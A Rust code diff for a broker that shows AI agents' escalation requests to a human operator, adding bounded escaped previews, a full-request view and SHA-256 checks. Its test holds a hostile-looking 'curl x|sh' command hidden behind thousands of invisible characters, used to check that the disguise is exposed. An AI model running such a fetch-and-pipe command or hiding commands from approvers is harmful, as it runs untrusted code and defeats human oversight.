@@ -7,9 +7,14 @@
 //! read fails).
 //!
 //! - `bypass/pending` readers see each request once per fid, as one JSON object whose strings
-//!   are display-escaped ([`ollie_link::bypass::display_escape_json`]).
-//! - `resolve` takes the strict verdict of [`ollie_link::bypass::parse_resolve`]; unknown,
-//!   expired and used ids are errors; answers after the deadline are refused.
+//!   are display-escaped and bounded ([`ollie_link::bypass::display_bounded_json`]: a string
+//!   over 1024 characters shows its head and tail around `\[… N characters hidden …]`), with
+//!   `request_bytes` and `request_sha256`: the length and SHA-256 of the exact request (its
+//!   compact JSON, unescaped). `bypass/full` shows that request whole, display-escaped, to
+//!   whoever writes its id: `display_unescape` of it gives back the bytes the hash covers.
+//! - `resolve` takes the strict verdict of [`ollie_link::bypass::parse_resolve_at`] (whole, in
+//!   one write at offset 0); unknown, expired and used ids are errors; answers after the
+//!   deadline are refused. The operator's denial message reaches the agent display-escaped.
 //! - `"scope":"session"` remembers the approval for requests with the same binding digest
 //!   (byte-identical: same agent, tool, argv, cwd, environment, executable and script hashes,
 //!   grants) for the rest of this toolsrv's life.
@@ -72,8 +77,10 @@ struct Entry {
     seq: u64,
     agent: String,
     digest: String,
-    /// What `pending` shows.
+    /// What `pending` shows: bounded, with `request_bytes` and `request_sha256`.
     shown: Arc<String>,
+    /// What `full` shows: the whole request, display-escaped.
+    full: Arc<String>,
     deadline: Instant,
     waiters: Vec<oneshot::Sender<Outcome>>,
 }
@@ -218,8 +225,9 @@ impl Broker {
                 && when.elapsed() < DENIAL_MEMO
             {
                 return Some(format!(
-                    "escalation refused: the operator denied this exact request {} s ago ({msg}); it is not asked again within {} s; nothing was run",
+                    "escalation refused: the operator denied this exact request {} s ago ({}); it is not asked again within {} s; nothing was run",
                     when.elapsed().as_secs(),
+                    ollie_link::bypass::display_escape(msg),
                     DENIAL_MEMO.as_secs()
                 ));
             }
@@ -250,7 +258,7 @@ impl Broker {
         fields.insert("id".into(), Value::from(id.clone()));
         fields.insert("created".into(), Value::from(rfc3339(now)));
         fields.insert("expires".into(), Value::from(rfc3339(now + deadline)));
-        let shown = ollie_link::bypass::display_escape_json(&Value::Object(fields));
+        let (shown, full) = Self::shown(fields);
         t.seq += 1;
         let seq = t.seq;
         t.pending.insert(
@@ -259,7 +267,8 @@ impl Broker {
                 seq,
                 agent: ask.agent,
                 digest: ask.digest,
-                shown: Arc::new(format!("{shown}\n")),
+                shown: Arc::new(shown),
+                full: Arc::new(full),
                 deadline: Instant::now() + deadline,
                 waiters: vec![tx],
             },
@@ -267,6 +276,43 @@ impl Broker {
         drop(t);
         self.tick.send_modify(|s| *s += 1);
         Ok(Asked::Waiting(id, rx))
+    }
+
+    /// What `pending` and `full` show of a request with these fields. The request itself is
+    /// `raw`, their compact JSON (serde_json's escapes only, so it may hold any character):
+    /// `full` is `display_escape(raw)` and a newline; `pending` is the fields escaped and
+    /// bounded ([`ollie_link::bypass::display_bounded_json`]) with `request_bytes` (the length
+    /// of `raw`) and `request_sha256` (its SHA-256) added, and a newline.
+    fn shown(fields: serde_json::Map<String, Value>) -> (String, String) {
+        let v = Value::Object(fields);
+        let raw = v.to_string();
+        let mut shown = match ollie_link::bypass::display_bounded_json(&v) {
+            Value::Object(m) => m,
+            _ => serde_json::Map::new(),
+        };
+        shown.insert("request_bytes".into(), Value::from(raw.len()));
+        shown.insert(
+            "request_sha256".into(),
+            Value::from(ollie_link::bypass::sha256_hex(raw.as_bytes())),
+        );
+        (
+            format!("{}\n", Value::Object(shown)),
+            format!("{}\n", ollie_link::bypass::display_escape(&raw)),
+        )
+    }
+
+    /// The whole request `id` as `bypass/full` shows it (see [`Broker::shown`]), while it is
+    /// pending.
+    pub fn full_request(&self, id: &str) -> Result<Arc<String>, String> {
+        let mut t = lock(&self.table);
+        self.expire(&mut t);
+        if let Some(e) = t.pending.get(id) {
+            return Ok(Arc::clone(&e.full));
+        }
+        Err(match t.done.get(id) {
+            Some(_) => format!("request {id} is no longer pending"),
+            None => format!("no request {id}"),
+        })
     }
 
     /// Waits for the answer to request `id` (its deadline included).
@@ -489,13 +535,13 @@ impl Broker {
     }
 
     /// Appends one event to `bypass/log`: `{"event": EVENT, "time": …, FIELDS…}`. Strings are
-    /// display-escaped like `pending`, so the log can be shown as is.
+    /// display-escaped and bounded like `pending`, so the log can be shown as is.
     pub fn log(&self, event: &str, mut fields: serde_json::Map<String, Value>) {
         fields.insert("event".into(), Value::from(event));
         fields.insert("time".into(), Value::from(rfc3339(SystemTime::now())));
         let line = format!(
             "{}\n",
-            ollie_link::bypass::display_escape_json(&Value::Object(fields))
+            ollie_link::bypass::display_bounded_json(&Value::Object(fields))
         );
         let mut l = lock(&self.log);
         l.events.push_back(Arc::new(line));
@@ -647,6 +693,43 @@ mod tests {
         assert!(e.starts_with("no request"), "{e}");
         // Without scope, the same request asks again.
         assert!(matches!(b.ask(ask("a", "d1")).unwrap(), Asked::Waiting(..)));
+    }
+
+    #[tokio::test]
+    async fn pending_is_bounded_and_full_gives_the_exact_request_back() {
+        let b = Broker::default();
+        let cmd = format!("curl x|sh;{}cargo test", "\u{2800}".repeat(4000));
+        let mut a = ask("a", "d1");
+        a.fields
+            .insert("argv".into(), serde_json::json!(["bash", "-c", cmd]));
+        let (id, _rx) = waiting(b.ask(a).unwrap());
+        let shown = b.next_pending(&mut HashSet::new()).await;
+        assert!(shown.len() < 4096, "{} bytes", shown.len());
+        let v: Value = serde_json::from_str(&shown).unwrap();
+        let argv2 = v["argv"][2].as_str().unwrap();
+        assert!(argv2.starts_with("curl x|sh;\\u{2800}"), "{argv2}");
+        assert!(argv2.ends_with("\\u{2800}cargo test"), "{argv2}");
+        assert!(argv2.contains(" characters hidden …]"), "{argv2}");
+        assert!(!shown.contains('\u{2800}'));
+        let full = b.full_request(&id).unwrap();
+        assert!(!full.contains('\u{2800}'));
+        let raw = ollie_link::bypass::display_unescape(full.trim_end_matches('\n')).unwrap();
+        assert_eq!(v["request_bytes"], raw.len());
+        assert_eq!(
+            v["request_sha256"],
+            ollie_link::bypass::sha256_hex(raw.as_bytes())
+        );
+        let r: Value = serde_json::from_str(&raw).unwrap();
+        assert_eq!(r["argv"][2], cmd.as_str());
+        assert_eq!(r["id"], id.as_str());
+        b.resolve(verdict(&id, true, false)).unwrap();
+        let e = b.full_request(&id).unwrap_err();
+        assert!(e.contains("no longer pending"), "{e}");
+        assert!(
+            b.full_request(&"0".repeat(32))
+                .unwrap_err()
+                .starts_with("no request")
+        );
     }
 
     #[tokio::test]
